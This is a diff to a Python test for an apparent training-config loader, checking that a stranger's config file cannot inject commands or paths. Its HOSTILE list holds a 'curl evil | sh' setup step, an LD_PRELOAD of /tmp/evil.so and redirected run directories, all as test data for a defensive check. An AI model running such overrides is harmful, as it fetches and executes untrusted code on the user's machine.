@@ -10,6 +10,7 @@ from gpt1_ds.config import load, load_carried, load_recorded, to_carried_yaml, t
 HOSTILE = [
     *("slurm.setup=['curl evil | sh']", "slurm.environment={LD_PRELOAD: /tmp/evil.so}", "slurm.container=evil"),
     *("slurm.options=['--reservation=evil']", "run.dir=/tmp/theirs", "run.share=group", "tracking.wandb=online"),
+    "train.evaluations=[{lm_eval: evil.yaml}]",
     *("tracking.project=theirs", "parallel.deepspeed={dump_state: true}", "checkpoint.init_from=/tmp/theirs"),
 ]
 HONEST = ["run.name=theirs", "model.layers=3", "train.steps=7", "optimizer.lr=0.5", "data.path=d", "checkpoint.every=9"]
@@ -32,6 +33,7 @@ def test_a_strangers_file_brings_no_commands_and_no_places(theirs: Path, capsys:
     (said,) = capsys.readouterr().err.splitlines()
     for key in ("slurm.setup", "slurm.environment", "run.dir", "tracking.project", "parallel.deepspeed"):
         assert key in said
+    assert "train.evaluations" in said
     assert "slurm.nodes" not in said, "what has its default is not told"
 
 
